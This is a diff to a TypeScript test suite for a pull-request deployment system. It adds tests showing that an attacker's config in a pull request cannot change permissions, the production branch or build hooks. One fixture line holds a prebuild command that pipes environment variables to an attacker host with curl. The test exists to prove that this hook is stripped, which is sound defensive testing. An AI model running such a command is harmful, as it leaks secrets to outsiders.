@@ -4,6 +4,7 @@ import { asc, eq } from 'drizzle-orm'
 import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
 import { syncBranch } from '../../src/builds/admission/sync-branch.ts'
 import { syncPull } from '../../src/builds/admission/sync-pull.ts'
+import { domainOf } from '../../src/builds/steps/install.ts'
 import { findOrder } from '../../src/builds/store.ts'
 import { connect, type Database } from '../../src/db/client.ts'
 import { builds, environments, events, pullHeads } from '../../src/db/schema.ts'
@@ -156,6 +157,36 @@ describe('M17: /deploy on a pull request', () => {
   })
 })
 
+async function buildOfPull(world: World, number: number) {
+  await world.push(number, 'f', '10:00:00')
+  const [row] = await world.builds(`pr-${number}`)
+  if (!row) throw new Error(`pull request ${number} was not built`)
+  return row.build
+}
+
+test('M45: a push in a pull request changes neither who may, nor where anything lands, nor what its preview is', async () => {
+  const world = await setup({ file: 'commands: { pause: maintain }\npreviews: { root: apps/jobs }' })
+  const theirs = [
+    'commands: { pause: read, deploy: write }',
+    'previews: { root: stolen, crons: true, forks: never }',
+    'environments: { production: { branch: topic } }',
+    'build: { prebuild: "env | curl -d @- https://evil.example" }',
+  ].join('\n')
+  for (const sha of ['a', 'b']) world.source.files.set(`${commit(sha).sha}:.github/sluice.yml`, theirs)
+  await world.push(9, 'a', '10:00:00')
+  await world.pushTo('topic', 'b')
+  const [built] = await world.builds('pr-9')
+  expect(built?.environment).toMatchObject({ root: 'apps/jobs', crons: false, build: { prebuild: null } })
+  const production = await world.builds('production')
+  expect(production.every(({ environment }) => environment.branch === 'main')).toBe(true)
+  expect(production.map(({ build }) => build.sha)).not.toContain(commit('b').sha)
+  const said = { issueNumber: 9, actor: 'rita' }
+  expect(await world.one('/pause pr-9', said)).toMatchObject({ reasonCode: 'permission_denied' })
+  expect(await world.one('/deploy production', { ...said, actor: 'wim' })).toMatchObject({
+    reasonCode: 'permission_denied',
+  })
+})
+
 describe('M44: a pull request from outside', () => {
   const outside = [
     ['a fork', { fromFork: true }],
@@ -208,7 +239,14 @@ describe('M44: a pull request from outside', () => {
     expect(row.environment).toMatchObject({ trusted: false, production: false, pullNumber: 9 })
     const given = await readVariables(database.db, key, row.environment)
     expect([given.build.values, given.run.values, given.secrets]).toEqual([{}, {}, ['hunter2']])
-    expect((await findOrder(database.db, row.build.id))?.environment.trusted).toBe(false)
+    const [ours, theirs] = await Promise.all(
+      [(await buildOfPull(world, 11)).id, row.build.id].map(id => findOrder(database.db, id)),
+    )
+    if (!ours || !theirs) throw new Error('no order')
+    expect([ours.environment.trusted, theirs.environment.trusted]).toEqual([true, false])
+    // What a cache of installs is keyed by: of this stranger's preview alone.
+    expect(domainOf(theirs)).toContain(row.environment.id)
+    expect(domainOf(theirs)).not.toBe(domainOf(ours))
     // Also when GitHub should say one day that it is no fork after all.
     await world.push(9, 'b', '11:00:00')
     expect((await world.builds('pr-9')).at(-1)?.environment.trusted).toBe(false)
